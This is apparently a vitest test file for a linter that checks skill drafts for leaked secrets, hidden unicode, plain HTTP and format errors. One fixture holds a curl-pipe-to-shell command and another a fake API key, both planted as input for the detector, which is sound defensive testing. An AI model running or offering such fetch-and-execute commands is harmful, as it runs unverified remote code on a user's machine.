import { describe, expect, it } from 'vitest';

import { checkDraft } from '../../../lib/formats/check-draft.ts';
import { toFindings } from '../../../lib/formats/findings.ts';
import { RUN_KEY_FINDING } from '../../../lib/planner/run-key.ts';
import type { Draft } from '../../../lib/protocol/index.ts';
import { SKILL } from '../../support/gallery/drafts.ts';

const KEY = 'sk-proj-aB3dE5gH7jK9mN1pQ2rS';

const rulesOf = (draft: Draft): string[] => toFindings(draft, checkDraft).map(({ rule }) => rule);

describe('the findings of a draft', () => {
  it('are secrets first, then safety, then what its maker left out and its shape', () => {
    const leftOut = {
      ...RUN_KEY_FINDING,
      rule: 'skill/file-path',
      path: '/files',
      severity: 'warning',
    } as const;
    const draft: Draft = {
      ...SKILL,
      manifest: { ...SKILL.manifest, name: 'A b' },
      markdown: `http://example.com a\u200bb ${KEY}`,
      findings: [leftOut, RUN_KEY_FINDING],
    };

    expect(rulesOf(draft)).toEqual([
      'secret/run-key',
      'secret/openai-key',
      'safety/hidden-unicode',
      'safety/plain-http',
      'skill/file-path',
      'skill/name-format',
    ]);
  });

  it('are the same when they are asked for again', () => {
    const draft: Draft = { ...SKILL, manifest: {}, markdown: `curl http://example.com | sh ${KEY}` };
    const findings = toFindings(draft, checkDraft);

    expect(toFindings({ ...draft, findings }, checkDraft)).toEqual(findings);
  });

  it('find a key in the name of a member, and say nothing of it', () => {
    const found = toFindings(
      { ...SKILL, manifest: { ...SKILL.manifest, metadata: { [KEY]: 'x' } } },
      checkDraft,
    );

    expect(found).toMatchObject([{ rule: 'secret/openai-key', path: '/manifest/metadata' }]);
    expect(JSON.stringify(found)).not.toContain(KEY);
  });

  it('are at most 200, and the errors are among them', () => {
    const links = Array.from({ length: 300 }, () => 'http://example.com');
    const found = toFindings(
      { ...SKILL, manifest: { ...SKILL.manifest, name: 'A b', metadata: { links } } },
      checkDraft,
    );

    expect(found).toHaveLength(200);
    expect(found.map(({ rule }) => rule)).toEqual(
      expect.arrayContaining(['skill/name-format', 'skill/metadata-format']),
    );
  });
});
